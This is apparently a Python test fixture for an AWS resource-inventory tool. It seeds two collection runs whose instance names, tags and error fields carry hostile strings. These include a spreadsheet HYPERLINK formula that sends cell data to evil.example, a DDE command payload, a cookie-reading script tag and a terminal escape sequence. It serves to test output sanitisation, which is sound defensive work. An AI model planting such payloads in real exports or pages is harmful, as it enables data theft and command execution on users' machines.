"""A small inventory with hostile strings planted where AWS lets anyone put them (names, tags,
error messages), collected twice so that diff and report show them."""

from __future__ import annotations

from datetime import UTC, datetime

from sqlalchemy.ext.asyncio import AsyncEngine

from collector.records import Record, ScanResult, Status
from collector.store import Store

ACCOUNT = "111111111111"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
SCRIPT = "<script>alert(document.cookie)</script>"
ESCAPE = "\x1b]0;pwned\x07\x1b[2J"
HOSTILE = (FORMULA, SCRIPT, ESCAPE, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")


def _record(n: int, name: str, digest: str) -> Record:
    ident = f"i-{n:04d}"
    return Record(
        arn=f"arn:aws:ec2:us-east-1:{ACCOUNT}:instance/{ident}",
        account_id=ACCOUNT,
        region="us-east-1",
        scope_region="us-east-1",
        service="ec2",
        resource_type="AWS::EC2::Instance",
        resource_id=ident,
        name=name,
        tags={"Name": name, "note": ESCAPE},
        created_at=datetime(2024, 1, 1, tzinfo=UTC),
        raw={"InstanceId": ident, "v": digest},
        digest=digest,
    )


async def _run(engine: AsyncEngine, records: list[Record]) -> None:
    store = Store(engine)
    run_id = await store.start_run(config_summary={})
    async with store:
        for r in records:
            await store.put(r)
        await store.put_result(ScanResult(ACCOUNT, "us-east-1", "AWS::EC2::Instance", "ec2", Status.OK, item_count=len(records)))
        await store.put_result(
            ScanResult(ACCOUNT, "eu-west-1", "AWS::EC2::Instance", "ec2", Status.ERROR,
                       error_code=FORMULA, error_message=SCRIPT + ESCAPE)
        )  # fmt: skip
    await store.reconcile(run_id)
    await store.finish_run(run_id, "partial")


async def seed_hostile(engine: AsyncEngine) -> None:
    """Run 1: one plain instance; run 2: the hostile ones appear (created in the diff)."""
    await _run(engine, [_record(0, "plain", "d0")])
    await _run(engine, [_record(0, "plain", "d0")] + [
        _record(i + 1, name, "d1") for i, name in enumerate(HOSTILE)
    ])  # fmt: skip
